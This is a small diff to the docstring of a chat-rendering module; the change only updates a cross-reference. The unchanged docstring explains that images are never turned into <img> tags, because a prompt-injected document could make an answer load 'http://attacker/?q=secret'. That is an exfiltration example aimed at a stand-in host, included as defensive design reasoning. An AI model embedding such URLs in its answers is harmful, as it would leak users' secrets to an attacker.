@@ -3,7 +3,7 @@
 Safety: raw HTML in a message is escaped (``html=False``), and images are never
 turned into ``<img>``: a prompt-injected document could otherwise make an
 answer load ``http://attacker/?q=secret``.  An image becomes a plain link the
-user may click.  Links are not followed by the view itself (see ``chatview``).
+user may click.  Links are not followed by the view itself (see :mod:`app.ui.chat.view`).
 """
 
 from __future__ import annotations
